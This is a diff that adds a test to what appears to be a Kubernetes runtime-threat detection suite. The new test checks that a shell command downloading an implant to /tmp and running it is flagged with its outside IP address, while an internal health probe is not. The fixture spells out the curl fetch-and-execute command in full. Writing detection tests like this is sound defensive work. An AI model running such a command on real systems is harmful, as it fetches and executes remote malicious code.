@@ -46,3 +46,11 @@ def test_a_pod_known_only_from_its_tokens_gets_their_account() -> None:
     rows = pods_from_all_sources(pd.DataFrame(columns=["namespace", "name"]), iter([audit]), pd.DataFrame(columns=POD_IPS_COLUMNS), "c",
                                  token_accounts={("shop", "web-1"): "web"})
     assert [(r["name"], r["service_account"], r["deleted"]) for r in rows] == [("web-1", "web", ts(20))]
+
+
+def test_a_shell_running_a_download_is_a_download_with_its_address() -> None:
+    row = {"time": "2026-05-12T08:25:54Z", "source": "tetragon", "event_type": "exec", "namespace": "shop", "pod": "cart-1", "node": "node-1",
+           "process": "/bin/sh", "args": '-c "curl -s http://198.51.100.30/implant -o /tmp/.i && /tmp/.i"', "parent_process": "/app/cart"}
+    hits = rr.download_tool(Evidence(runtime=frame("runtime", row, {**row, "args": "-c 'wget -q -O- http://10.0.1.5:8443/healthz'",
+                                                                      "time": "2026-05-12T09:25:54Z"})))
+    assert hits["destination_ip"].tolist() == ["198.51.100.30"]  # the probe of an inside address is no download
